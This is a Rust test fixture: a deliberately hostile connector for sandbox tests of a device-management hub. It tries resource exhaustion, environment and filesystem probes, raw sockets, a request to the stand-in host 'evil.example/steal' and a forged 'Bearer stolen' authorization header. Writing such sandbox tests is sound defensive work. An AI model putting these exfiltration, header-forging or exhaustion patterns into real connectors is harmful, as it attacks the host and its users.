//! A hostile connector for the sandbox tests. `action(vendor(NAME))` runs
//! one misbehaviour and reports what happened in the outcome's message;
//! `list` with cursor `huge` returns an oversized page, with `spin` or
//! `trap` misbehaves, and with `count` answers `count-N`, N being the list
//! calls this instance has answered.

use std::sync::atomic::{AtomicU32, Ordering};

use mdmhub_sdk::bindings::mdmhub::connector::http as raw;
use mdmhub_sdk::prelude::*;

struct Hostile;

impl Connector for Hostile {
    fn describe() -> ConnectorInfo {
        ConnectorInfo {
            id: "hostile".into(),
            name: "Hostile test connector".into(),
            version: "0.0.1".into(),
            config: vec![field("host", false), field("token", true)],
            auth: AuthScheme::Bearer(BearerAuth {
                token_field: "token".into(),
            }),
            origins: vec!["https://{host}".into()],
            rate_policy: RatePolicy {
                buckets: vec![],
                max_concurrent: 8,
            },
            resources: vec![ResourceInfo {
                kind: ResourceKind::Devices,
                scope: ResourceScope::TopLevel,
                supports_get: false,
            }],
            actions: vec![],
            device_url_template: None,
        }
    }

    fn check(_: &Context) -> Result<(), ConnectorError> {
        Ok(())
    }

    fn list(
        _: &Context,
        _: ResourceKind,
        cursor: Option<String>,
        _: ListOptions,
    ) -> Result<Page, ConnectorError> {
        // How many list calls this instance has answered: shows whether the
        // host reused it.
        static CALLS: AtomicU32 = AtomicU32::new(0);
        let calls = CALLS.fetch_add(1, Ordering::Relaxed) + 1;
        let records = match cursor.as_deref() {
            // 80 records of 1 MiB each: over the host's 64 MiB page limit.
            Some("huge") => (0..80).map(|i| huge_device(i, 1 << 20)).collect(),
            Some("spin") => loop {
                std::hint::spin_loop();
            },
            Some("trap") => panic!("deliberate trap"),
            _ => vec![],
        };
        // The count as the next cursor: `count-N`.
        let next_cursor = (cursor.as_deref() == Some("count")).then(|| format!("count-{calls}"));
        Ok(Page {
            records,
            next_cursor,
            errors: vec![],
        })
    }

    fn action(
        ctx: &Context,
        _: String,
        request: ActionRequest,
    ) -> Result<ActionOutcome, ConnectorError> {
        let ActionKind::Vendor(name) = request.kind else {
            return Err(ConnectorError::Unsupported("only vendor actions".into()));
        };
        let origin = ctx.origin(0)?.to_owned();
        let message = match name.as_str() {
            "spin" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "alloc" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "trap" => panic!("deliberate trap"),
            "recurse" => format!("{}", recurse(std::hint::black_box(1))),
            "env" => format!(
                "env={} args={}",
                std::env::vars().count(),
                std::env::args().count()
            ),
            "file" => match std::fs::read_dir("/") {
                Ok(d) => format!("file: listed {} entries", d.count()),
                Err(e) => format!("denied: {e}"),
            },
            "file-write" => match std::fs::write("/tmp/mdmhub-hostile", b"x") {
                Ok(()) => "file-write: written".into(),
                Err(e) => format!("denied: {e}"),
            },
            "socket" => match std::net::TcpStream::connect(request.params.trim_matches('"')) {
                Ok(_) => "socket: connected".into(),
                Err(e) => format!("denied: {e}"),
            },
            "wasi-http" => wasi_http(),
            "undeclared" => send(raw::Method::Get, "https://evil.example/steal", vec![]),
            "redirect" => send(raw::Method::Get, &format!("{origin}/redirect-out"), vec![]),
            "set-auth" => send(
                raw::Method::Get,
                &format!("{origin}/ok"),
                vec![("Authorization", "Bearer stolen")],
            ),
            "set-cookie" => send(
                raw::Method::Get,
                &format!("{origin}/ok"),
                vec![("Cookie", "session=1")],
            ),
            "ok" => send(raw::Method::Get, &format!("{origin}/ok"), vec![]),
            "slow-429" => send(raw::Method::Get, &format!("{origin}/slow-429"), vec![]),
            "429-forever" => send(raw::Method::Get, &format!("{origin}/429-forever"), vec![]),
            other => return Err(ConnectorError::Unsupported(other.into())),
        };
        Ok(ActionOutcome {
            status: ActionStatus::Completed,
            command_id: None,
            message: Some(message),
            values: vec![],
        })
    }
}

fn field(key: &str, secret: bool) -> ConfigField {
    ConfigField {
        key: key.into(),
        label: key.into(),
        help: None,
        required: true,
        secret,
        allowed_values: vec![],
        default_value: None,
    }
}

/// Tries `wasi:http/outgoing-handler` directly, around the host's capability.
fn wasi_http() -> String {
    use wasip2::http::types::{Fields, OutgoingRequest, Scheme};
    let req = OutgoingRequest::new(Fields::new());
    let _ = req.set_scheme(Some(&Scheme::Https));
    let _ = req.set_authority(Some("example.com"));
    let _ = req.set_path_with_query(Some("/"));
    match wasip2::http::outgoing_handler::handle(req, None) {
        Err(e) => format!("denied: {e:?}"),
        Ok(fut) => {
            fut.subscribe().block();
            match fut.get() {
                Some(Ok(Ok(resp))) => format!("wasi-http: got status {}", resp.status()),
                Some(Ok(Err(e))) => format!("denied: {e:?}"),
                other => format!("denied: {other:?}"),
            }
        }
    }
}

/// Sends a raw request and reports `ok:STATUS` or `err:ERROR`.
fn send(method: raw::Method, url: &str, headers: Vec<(&str, &str)>) -> String {
    let req = raw::Request {
        method,
        url: url.into(),
        headers: headers
            .into_iter()
            .map(|(n, v)| raw::Header {
                name: n.into(),
                value: v.into(),
            })
            .collect(),
        body: None,
    };
    match raw::send(&req, None) {
        Ok(r) => format!("ok:{}", r.status),
        Err(e) => format!("err:{e:?}"),
    }
}

// Unbounded on purpose: the host must stop it with a stack-overflow trap.
#[allow(unconditional_recursion)]
fn recurse(n: u64) -> u64 {
    let pad = std::hint::black_box([n; 64]);
    recurse(pad[n as usize % 64] + 1) + pad[0]
}

fn huge_device(i: usize, bytes: usize) -> Entity {
    Entity::Device(Device {
        remote_id: format!("d{i}"),
        completeness: Completeness::Summary,
        name: None,
        serial_number: None,
        udid: None,
        asset_tag: None,
        device_type: None,
        platform: None,
        manufacturer: None,
        model: None,
        model_identifier: None,
        os_version: None,
        os_build: None,
        mac_addresses: vec![],
        ip_address: None,
        processor: None,
        memory_bytes: None,
        storage_bytes: None,
        management_state: None,
        is_compliant: None,
        is_encrypted: None,
        is_supervised: None,
        last_check_in_at: None,
        enrolled_at: None,
        assigned_user: None,
        organization_remote_id: None,
        groups: vec![],
        tags: vec![],
        web_url: None,
        remote_data: "x".repeat(bytes),
        extra: vec![],
    })
}

mdmhub_sdk::export_connector!(Hostile);
